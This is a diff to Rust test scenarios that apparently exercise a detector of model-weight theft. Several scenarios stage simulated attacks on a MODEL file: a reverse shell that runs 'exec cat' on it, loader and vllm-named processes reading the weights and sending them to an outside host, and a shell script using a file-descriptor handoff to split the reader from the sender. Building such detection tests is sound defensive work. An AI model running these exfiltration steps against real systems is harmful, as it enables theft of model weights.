@@ -26,7 +26,7 @@ fn reverse_shell(stage: &mut Stage) -> Outcome {
     let came = listener.command(format!("exec cat {MODEL}\n").as_bytes())?;
     shell.output()?;
     let expected = Expected {
-        inode: stage.inode.clone(),
+        inodes: vec![stage.inode.clone()],
         readers: vec![pid],
         senders: vec![pid],
         destinations: vec![to.parse()?],
@@ -39,19 +39,21 @@ fn reverse_shell(stage: &mut Stage) -> Outcome {
     Ok(Played::Attack(expected))
 }
 
+/// One process, the declared loader, loads and sends.
 fn loader(stage: &mut Stage) -> Outcome {
-    as_program(stage, "/opt/venv/bin/python3.11")
+    let program = stage.actor_called("/opt/venv/bin/python3.11")?;
+    as_program(stage, program)
 }
 
+/// The loader loads, as it does every day; later another process of the same name takes the weights.
 fn named(stage: &mut Stage) -> Outcome {
-    as_program(stage, "/opt/bin/vllm")
+    let program = stage.actor_called("/opt/bin/vllm")?;
+    stage.act_as(program, &["read", MODEL])?;
+    as_program(stage, program)
 }
 
 fn as_program(stage: &mut Stage, program: &str) -> Outcome {
-    let program = stage.actor_called(program)?;
     let world = stage.world(&[])?;
-    // The loader loads, as it does every day, and later sends.
-    stage.act_as(program, &["read", MODEL])?;
     let lines = stage.act_as(program, &["theft", "none", "--read", MODEL, "--to", &outside()])?;
     Ok(Played::Attack(stage.truth_of(&lines, None, world, true)?))
 }
@@ -59,8 +61,10 @@ fn as_program(stage: &mut Stage, program: &str) -> Outcome {
 fn exec(stage: &mut Stage) -> Outcome {
     let world = stage.world(&[])?;
     // The shell opens the file and becomes the sender, which never opens anything.
-    let script =
-        format!("exec 3< {MODEL}; $A become --role reader --file {MODEL} -- $A theft stdin --to {} <&3", outside());
+    let script = format!(
+        "exec 3< {MODEL}; exec $A become --role reader --file {MODEL} -- $A theft stdin --to {} <&3",
+        outside()
+    );
     let lines = stage.script(&script)?;
     Ok(Played::Attack(stage.truth_of(&lines, None, world, true)?))
 }
